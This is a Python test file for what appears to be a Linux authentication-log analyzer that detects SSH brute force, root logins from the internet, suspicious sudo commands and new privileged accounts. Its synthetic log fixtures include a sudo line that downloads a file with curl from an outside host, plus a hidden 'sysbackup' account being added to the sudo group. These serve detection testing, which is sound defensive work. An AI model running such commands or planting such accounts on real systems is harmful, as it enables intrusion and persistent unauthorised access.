from madoguchi.analyzers.linux_auth import LinuxAuthAnalyzer
from madoguchi.domain.findings import Stage

FAIL = (
    "Mar  3 02:10:{s:02d} web01 sshd[22{s}]: Failed password for root from 192.0.2.150 "
    "port 4{s} ssh2"
)
OK = "Mar  3 02:11:15 web01 sshd[2230]: Accepted password for {user} from {ip} port 40100 ssh2"


def test_brute_force_then_success(write, analyze) -> None:
    text = (
        "\n".join(
            [FAIL.format(s=i) for i in range(10)] + [OK.format(user="deploy", ip="192.0.2.150")]
        )
        + "\n"
    )
    out = analyze(LinuxAuthAnalyzer(), write("auth.log", text), {"syslog_year": 2024})
    assert out.rule("login.brute-force")[0].details["count"] == 10
    [success] = out.rule("login.success-after-failures")
    assert success.stage is Stage.EXPLOITED and success.account == "deploy"
    assert success.first_seen is not None and success.first_seen.year == 2024
    assert out.ctx.warnings == []


def test_internal_key_logins_are_not_findings(write, analyze) -> None:
    text = OK.format(user="deploy", ip="10.0.0.8").replace("password", "publickey") + "\n"
    out = analyze(LinuxAuthAnalyzer(), write("secure", text))
    assert out.accepted and out.findings == []
    assert any("year" in w.message for w in out.ctx.warnings)


def test_root_from_internet_sudo_and_new_admin(write, analyze) -> None:
    text = (
        "\n".join(
            [
                OK.format(user="root", ip="203.0.113.8"),
                "Mar  3 02:12:40 web01 sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; "
                "COMMAND=/usr/bin/curl -o /tmp/x http://203.0.113.8/x",
                "Mar  3 02:13:02 web01 useradd[2301]: new user: name=sysbackup, UID=1002, GID=1002",
                "Mar  3 02:13:10 web01 usermod[2305]: add 'sysbackup' to group 'sudo'",
            ]
        )
        + "\n"
    )
    out = analyze(LinuxAuthAnalyzer(), write("auth.log.2.gz", text, gzipped=True))
    assert out.rule_ids == {
        "linux.root-login-from-internet",
        "linux.sudo-suspicious-command",
        "linux.user-created",
        "linux.privileged-group-added",
    }
    assert out.rule("linux.user-created")[0].details["new_user"] == "sysbackup"
